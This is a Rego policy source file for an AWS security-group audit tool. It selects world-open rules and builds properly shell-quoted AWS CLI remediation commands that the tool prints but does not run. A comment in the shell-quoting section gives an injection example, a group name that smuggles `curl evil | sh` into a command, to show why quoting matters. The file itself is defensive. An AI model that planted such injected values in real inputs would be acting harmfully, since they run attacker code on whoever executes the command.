# Package sgaudit.lib.sg holds helpers about security groups: selecting
# rules, looking up cross-group facts in O(1), and building the exact AWS CLI
# command that fixes a finding (sgaudit never runs it).
#
# The engine evaluates input.security_groups in batches; input.coverage and
# input.vpcs are always whole. Lookups over them are package-level sets and
# objects, built once per evaluation (the engine even keeps those that do not
# depend on the batch across batches), never scanned inside the group loop
# (DESIGN.md §8: `x in array` per group made 20k groups 2.6x slower per group).
package sgaudit.lib.sg

import data.sgaudit.lib.net

# collected_kinds holds "account/region/kind" for every data kind read
# completely in a region (inventory.Coverage.Collected).
collected_kinds := {concat("/", [c.account_id, c.region, k]) |
	some c in input.coverage
	some k in c.collected
}

# known_kinds is every kind collected anywhere; small (a handful of names).
known_kinds := {k |
	some c in input.coverage
	some k in c.collected
}

# collected(g, kind) is true when kind was read completely in g's region.
collected(g, kind) if collected_kinds[concat("/", [g.account_id, g.region, kind])]

# kinds_checked(g) lists, sorted, the data kinds read in g's region: the
# evidence an "unused" verdict rests on.
kinds_checked(g) := sort([k |
	some k in known_kinds
	collected(g, k)
])

# vpc_interfaces maps "account/region/vpc-id" to the number of network
# interfaces in that VPC.
vpc_interfaces := {concat("/", [v.account_id, v.region, v.id]): v.network_interfaces | some v in input.vpcs}

# vpc_interface_count(g) is the interface count of g's VPC; undefined when
# the VPC is not in the inventory.
vpc_interface_count(g) := vpc_interfaces[concat("/", [g.account_id, g.region, g.vpc_id])]

# world_port_rules[i] lists the ingress rules of input.security_groups[i]
# through which the world (0.0.0.0/0, ::/0) reaches ports: protocol tcp, udp
# or all. Groups without one have no key. SGA001-SGA003 all start from these
# rules; as a package-level object it is built once per evaluation and
# shared, instead of each check walking every rule (DESIGN.md §8). The
# conditions are net.is_world_peer and net.carries_ports inlined, the most
# selective first: most rules are not from the world, and a function call
# per rule costs about 3x the inline test.
world_port_rules := {i: rules |
	some i, g in input.security_groups
	rules := [r |
		some r in g.rules
		endswith(r.peer.cidr, "/0")
		r.direction == "ingress"
		net.port_protocols[r.protocol]
		net.cidr_peer_kinds[r.peer.kind]
	]
	count(rules) > 0
}

# world_ingress(g) lists g's ingress rules whose peer is 0.0.0.0/0 or ::/0,
# any protocol. For custom policies; the built-in checks use world_port_rules.
world_ingress(g) := [r |
	some r in g.rules
	r.direction == "ingress"
	net.is_world_peer(r.peer)
]

# public_attachments(g) lists the interfaces carrying g that have a public
# IP, with what they belong to, sorted by interface id.
public_attachments(g) := [{
	"network_interface_id": a.network_interface_id,
	"public_ip": a.public_ip,
	"resource": object.get(a, "resource", ""),
} |
	some a in g.attachments
	object.get(a, "public_ip", "") != ""
]

# is_aws_default_egress(r) is true for the egress rule AWS adds to every new
# group (all traffic to 0.0.0.0/0, or ::/0 in an IPv6 VPC) while it still has
# no description. It is not a choice anyone made, so describing it is noise.
is_aws_default_egress(r) if {
	r.direction == "egress"
	r.protocol == "all"
	net.is_world_peer(r.peer)
	not has_description(r)
}

# has_description(r) is true when the rule has a non-blank description
# (absent, null and whitespace-only all count as none).
has_description(r) if {
	d := object.get(r, "description", "")
	is_string(d)
	trim_space(d) != ""
}

# has_attachments(g) is true when an interface carries g; attachments may be
# absent, null or empty.
has_attachments(g) if {
	some _ in g.attachments
}

# label(g) is how messages name a group: "sg-1 (web)".
label(g) := sprintf("%s (%s)", [g.id, g.name])

# ---------------------------------------------------------------------------
# Shell quoting. Names, descriptions and anything read from imported JSON are
# attacker-controlled: a group named `x'; curl evil | sh; '` must not turn a
# copied remediation command into a different command.
#
# The builders below run once per finding, and SGA007 can have a finding per
# rule, so they keep function calls and builtins few (DESIGN.md §8).

# shell_quote(s) wraps s in single quotes, closing and escaping any quote in s.
shell_quote(s) := sprintf("'%s'", [s]) if indexof(s, "'") == -1

else := sprintf("'%s'", [replace(s, "'", `'\''`)])

# safe_word matches what needs no quoting: AWS ids, regions and CIDRs.
safe_word := `^[A-Za-z0-9][A-Za-z0-9._:/=+,@-]*$`

# shell_word(s) leaves AWS ids bare (sg-1, sgr-1, eu-west-1) and quotes
# anything else, so a forged id in imported JSON cannot inject either.
shell_word(s) := s if regex.match(safe_word, s)

else := shell_quote(s)

# safe_pair is safe_word twice, for target's one-regex fast path.
safe_pair := `^[A-Za-z0-9][A-Za-z0-9._:/=+,@-]* [A-Za-z0-9][A-Za-z0-9._:/=+,@-]*$`

# target(g) is "--region R --group-id ID", which every command names.
target(g) := sprintf("--region %s --group-id %s", [g.region, g.id]) if {
	regex.match(safe_pair, sprintf("%s %s", [g.region, g.id]))
}

else := sprintf("--region %s --group-id %s", [shell_word(g.region), shell_word(g.id)])

# The CLI verbs per direction. A direction outside the contract finds no verb
# and the command is "" rather than a guess.
revoke_verb := {"ingress": "revoke-security-group-ingress", "egress": "revoke-security-group-egress"}

describe_verb := {
	"ingress": "update-security-group-rule-descriptions-ingress",
	"egress": "update-security-group-rule-descriptions-egress",
}

# ---------------------------------------------------------------------------
# AWS CLI shorthand for one rule, as --ip-permissions takes it:
# https://docs.aws.amazon.com/cli/latest/reference/ec2/revoke-security-group-ingress.html

# ranged_protocols put ports, or ICMP type and code, in FromPort/ToPort.
ranged_protocols := {"tcp", "udp", "icmp", "icmpv6"}

# ip_protocol_part and peer_part take plain values, not the rule, so that OPA
# indexes their branches (see net.ports_text): they run once per finding.
ip_protocol_part(protocol, from, to) := "IpProtocol=-1" if protocol == "all"

else := sprintf("IpProtocol=%s,FromPort=%d,ToPort=%d", [protocol, from, to]) if ranged_protocols[protocol]

else := sprintf("IpProtocol=%s", [protocol])

# peer_part(kind, peer, account_id, extra) renders the peer; extra is
# appended inside the braces (",Description=...") or is "". A reference to
# another account's group needs its owner as UserId.
peer_part(kind, peer, account_id, extra) := sprintf("IpRanges=[{CidrIp=%s%s}]", [peer.cidr, extra]) if kind == "cidr_ipv4"

else := sprintf("Ipv6Ranges=[{CidrIpv6=%s%s}]", [peer.cidr, extra]) if kind == "cidr_ipv6"

else := sprintf("PrefixListIds=[{PrefixListId=%s%s}]", [peer.prefix_list_id, extra]) if kind == "prefix_list"

else := sprintf("UserIdGroupPairs=[{UserId=%s,GroupId=%s%s}]", [owner, peer.group_id, extra]) if {
	owner := object.get(peer, "group_owner", "")
	owner != ""
	owner != account_id
}

else := sprintf("UserIdGroupPairs=[{GroupId=%s%s}]", [peer.group_id, extra])

# ip_permission(g, r) is the shorthand of one rule, unquoted.
ip_permission(g, r) := sprintf("%s,%s", [
	ip_protocol_part(r.protocol, r.from_port, r.to_port),
	peer_part(r.peer.kind, r.peer, g.account_id, ""),
])

# ---------------------------------------------------------------------------
# Remediation commands.

# revoke_command(g, r) removes one rule: by its id when the source had one,
# else by its content (exported describe-security-groups JSON has no ids).
revoke_command(g, r) := sprintf("aws ec2 %s %s --security-group-rule-ids %s", [
	revoke_verb[r.direction], target(g), shell_word(r.id),
]) if {
	object.get(r, "id", "") != ""
}

else := sprintf("aws ec2 %s %s --ip-permissions %s", [
	revoke_verb[r.direction], target(g), shell_quote(ip_permission(g, r)),
]) if {
	revoke_verb[r.direction]
}

else := ""

# revoke_all_command(g) removes every rule of g, one command per direction
# joined with && (ingress first), each listing all the rule ids.
revoke_all_command(g) := concat(" && ", [cmd |
	some dir in ["ingress", "egress"]
	cmd := revoke_direction_command(g, dir)
])

revoke_direction_command(g, dir) := sprintf("aws ec2 %s %s --security-group-rule-ids %s", [
	revoke_verb[dir], target(g), concat(" ", ids),
]) if {
	rules := [r | some r in g.rules; r.direction == dir]
	count(rules) > 0
	ids := sort([shell_word(r.id) | some r in rules; object.get(r, "id", "") != ""])
	count(ids) == count(rules)
}

else := sprintf("aws ec2 %s %s --ip-permissions %s", [
	revoke_verb[dir], target(g), concat(" ", perms),
]) if {
	perms := [shell_quote(ip_permission(g, r)) | some r in g.rules; r.direction == dir]
	count(perms) > 0
}

# description_extra puts the placeholder a person fills in into the shorthand.
description_extra := `,Description="<why this rule exists>"`

# describe_rule_command(g, r) sets a rule's description. The --ip-permissions
# form works with or without a rule id.
describe_rule_command(g, r) := sprintf("aws ec2 %s %s --ip-permissions %s", [
	describe_verb[r.direction], target(g),
	shell_quote(sprintf("%s,%s", [
		ip_protocol_part(r.protocol, r.from_port, r.to_port),
		peer_part(r.peer.kind, r.peer, g.account_id, description_extra),
	])),
]) if {
	describe_verb[r.direction]
}

else := ""

# delete_command(g) deletes an unused group.
delete_command(g) := sprintf("aws ec2 delete-security-group %s", [target(g)])

# replacement_command(g) creates a replacement group with a real description:
# EC2 cannot change a group's description, and group names are unique per
# VPC, so the replacement takes a new name; the interfaces then move to it.
replacement_command(g) := sprintf(`aws ec2 create-security-group --region %s%s --group-name %s --description "<what this group is for>"`, [
	shell_word(g.region), vpc_flag(g), shell_quote(sprintf("%s-v2", [g.name])),
])

vpc_flag(g) := sprintf(" --vpc-id %s", [shell_word(g.vpc_id)]) if object.get(g, "vpc_id", "") != ""

else := ""
